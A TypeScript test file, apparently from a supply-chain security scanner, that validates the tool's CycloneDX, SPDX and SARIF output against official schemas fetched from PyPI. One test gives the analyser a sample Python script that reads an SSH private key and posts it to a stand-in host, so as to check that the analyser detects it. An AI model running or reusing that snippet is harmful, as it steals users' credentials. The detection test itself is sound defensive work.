// Every document that is written for other programs, against the official schema of its format. The schemas are not
// ours to keep: packages of PyPI carry them (their licences are Apache-2.0 and MIT), fetched once by name and version.

import { type ExecFileSyncOptions, execFileSync } from 'node:child_process'
import { existsSync, globSync, mkdtempSync, readFileSync, renameSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join, resolve } from 'node:path'
import { asSarif } from '@sentinel/analysis'
import { loadKnowledge } from '@sentinel/knowledge'
import { createAnalysisPool } from '@sentinel/scanner'
import { Ajv } from 'ajv'
import addFormats from 'ajv-formats'
import { describe, expect, it } from 'vitest'
import { createAdvisoryIndex } from '../advisories/advisoryIndex.ts'
import { dataAgeOf } from '../advisories/dataAge.ts'
import { type AdvisorySet, importFolder, importZip } from '../advisories/importAdvisories.ts'
import { type Audit, audit, type Subject } from '../audit/audit.ts'
import { filesOf } from '../files.ts'
import { auditSarif } from './auditSarif.ts'
import { cycloneDx, cycloneDxVex } from './cycloneDx.ts'
import { spdx } from './spdx.ts'

const now = '2026-01-02T00:00:00.000Z'
const stamp = { now, uuid: '3e671687-395b-41f5-a30f-a58921a69b79', version: '0.1.0' }

/** Package, and the schemas in it; the first is the one that is asked, the others are those it refers to. */
const sources = {
  cycloneDx: [
    'cyclonedx-python-lib==11.12.0',
    'cyclonedx/schema/_res/bom-1.6.SNAPSHOT.schema.json',
    'cyclonedx/schema/_res/spdx.SNAPSHOT.schema.json',
    'cyclonedx/schema/_res/jsf-0.82.SNAPSHOT.schema.json',
  ],
  spdx: ['lib4sbom==0.10.4', 'lib4sbom/schemas/spdx/2.3-schema.json'],
  sarif: ['sarif-om==1.0.4', 'sarif_om-1.0.4/sarif-2.1.0-rtm.4.json'],
} as const

describe.runIf(process.env.SENTINEL_TEST_ALL === '1')('against the official schema', () => {
  it.each(Object.entries(audits()))('a bill of materials is CycloneDX 1.6: %s', (_what, one) => {
    expect(faultsOf('cycloneDx', cycloneDx(one, stamp))).toEqual([])
  })

  it.each(Object.entries(audits()))('what is accepted is a VEX of CycloneDX 1.6: %s', (_what, one) => {
    expect(faultsOf('cycloneDx', cycloneDxVex(one, stamp))).toEqual([])
  })

  it.each(Object.entries(audits()))('a bill of materials is SPDX 2.3: %s', (_what, one) => {
    expect(faultsOf('spdx', spdx(one, stamp))).toEqual([])
  })

  it.each(Object.entries(audits()))('an audit is SARIF 2.1.0: %s', (_what, one) => {
    expect(faultsOf('sarif', auditSarif(one, one.findings))).toEqual([])
  })

  it('a scan of scripts is SARIF 2.1.0', async () => {
    const knowledge = loadKnowledge()
    await using pool = createAnalysisPool({
      size: 1,
      knowledge,
      secretKey: Buffer.from('k'),
      timeoutMs: 20_000,
    })
    const text =
      'import os, requests\nkey = open("/home/a/.ssh/id_rsa").read()\nrequests.post("http://h.invalid/", data=key)\n'
    const outcome = await pool.analyse({ path: 'a folder/ä script.py', text, roots: [] })
    const findings = outcome.kind === 'analysed' ? outcome.analysis.findings : []
    expect(findings.length).toBeGreaterThan(0)
    expect(faultsOf('sarif', asSarif(findings, knowledge.rules))).toEqual([])
  }, 60_000)

  it('what is no such document is refused', () => {
    for (const kind of ['cycloneDx', 'spdx', 'sarif'] as const)
      expect(faultsOf(kind, { version: 'x' })).not.toEqual([])
  })
})

function audits(): Record<string, Audit> {
  const odd = setOf(
    '{"id":"PYSEC-1","aliases":["CVE-1"],"modified":"2026-01-01T00:00:00Z","published":"2025-01-01T00:00:00Z","affected":[{"package":{"ecosystem":"PyPI","name":"a"},"versions":["1"]}],"references":[{"type":"WEB","url":"https://h.invalid/a b?x=%zz"}]}',
  )
  const ignored = {
    id: 'CVE-1',
    package: null,
    reason: 'not used',
    owner: 'a@example.org',
    expires: '2027-01-01',
  }
  const subjects = [
    subject('a', '1', { licence: 'MIT OR Apache-2.0' }),
    subject('b', '', { place: { file: 'a folder/rëq.txt', line: 4 } }),
    subject('c', '1', {
      ecosystem: 'conda',
      origin: { kind: 'archive', url: 'https://h.invalid/c.whl', hash: null },
    }),
  ]
  const real = resolve(import.meta.dirname, '../../../../../shared/data/pypa-advisories-2024-10.zip')
  return {
    'nothing known': auditOf(subjects, undefined),
    'with an ignore': auditOf(subjects, odd, [ignored]),
    'no package': auditOf([], odd),
    ...(existsSync(real) ? { 'a real database': someOf(importZip(readFileSync(real), now).set) } : {}),
  }
}

const setOf = (text: string): AdvisorySet => importFolder(filesOf({ '/d/1.json': text }), '/d', now).set

function someOf(set: AdvisorySet): Audit {
  const affected = set.advisories
    .flatMap((each) => each.affected)
    .filter(({ versions }) => versions.length > 0)
  return auditOf(
    affected.map(({ name, versions }) => subject(name, versions[0] as string)),
    set,
  )
}

const auditOf = (
  subjects: Subject[],
  set: AdvisorySet | undefined,
  ignores: Parameters<typeof audit>[0]['ignores'] = [],
) =>
  audit(
    { target: 'a test', subjects, problems: [], ignores, age: dataAgeOf(set, Date.parse(now)) },
    createAdvisoryIndex(set?.advisories ?? []),
  )

const subject = (name: string, version: string, more: Partial<Subject> = {}): Subject => ({
  ecosystem: 'pypi',
  name,
  version,
  origin: { kind: 'index' },
  licence: null,
  place: { file: 'requirements.txt', line: 3 },
  ...more,
})

type Kind = keyof typeof sources
const validators = new Map<Kind, (document: object) => string[]>()

function faultsOf(kind: Kind, document: object): string[] {
  const validator = validators.get(kind) ?? validatorOf(kind)
  validators.set(kind, validator)
  return validator(JSON.parse(JSON.stringify(document)))
}

function validatorOf(kind: Kind): (document: object) => string[] {
  const [source, main, ...others] = sources[kind]
  const folder = fetched(source)
  // SARIF's patterns are older than the Unicode syntax.
  const ajv = new Ajv({ strict: false, unicodeRegExp: false })
  addFormats.default(ajv)
  for (const international of ['idn-email', 'iri-reference']) ajv.addFormat(international, true)
  for (const path of others) ajv.addSchema(schemaAt(join(folder, path)), basename(path))
  const validate = ajv.compile(schemaAt(join(folder, main)))
  return (document) => {
    validate(document)
    return (validate.errors ?? []).map(
      ({ instancePath, message, params }) => `${instancePath}: ${message} ${JSON.stringify(params)}`,
    )
  }
}

/**
 * Without the names it gives itself: as packaged, schemas refer to each other by file name. Without its dialect: Ajv knows
 * draft 7, and SARIF's, of draft 4, uses nothing that differs.
 */
function schemaAt(path: string): object {
  const {
    $schema: _dialect,
    $id: _name,
    id: _oldName,
    ...schema
  } = JSON.parse(readFileSync(path, 'utf8')) as Record<string, unknown>
  return schema
}

/** A package's files as PyPI has them, unpacked and never installed, kept from run to run. */
function fetched(source: string): string {
  const folder = join(tmpdir(), `sentinel-schemas-${source.replace('==', '-')}`)
  if (existsSync(folder)) return folder
  const made = mkdtempSync(`${folder}.`)
  const quietly: ExecFileSyncOptions = { stdio: ['ignore', 'ignore', 'pipe'] }
  const wholly = source.startsWith('sarif-om') ? ['--no-binary', ':all:'] : []
  execFileSync(
    'python3',
    ['-m', 'pip', 'download', '-q', '--no-deps', ...wholly, '-d', made, source],
    quietly,
  )
  const [archive = ''] = globSync('*.{whl,gz}', { cwd: made })
  const unpack = 'import shutil, sys; shutil.unpack_archive(sys.argv[1], sys.argv[2], sys.argv[3])'
  const format = basename(archive).endsWith('.whl') ? 'zip' : 'gztar'
  execFileSync('python3', ['-c', unpack, join(made, archive), made, format], quietly)
  try {
    renameSync(made, folder)
  } catch {
    rmSync(made, { recursive: true }) // another run was first
  }
  return folder
}
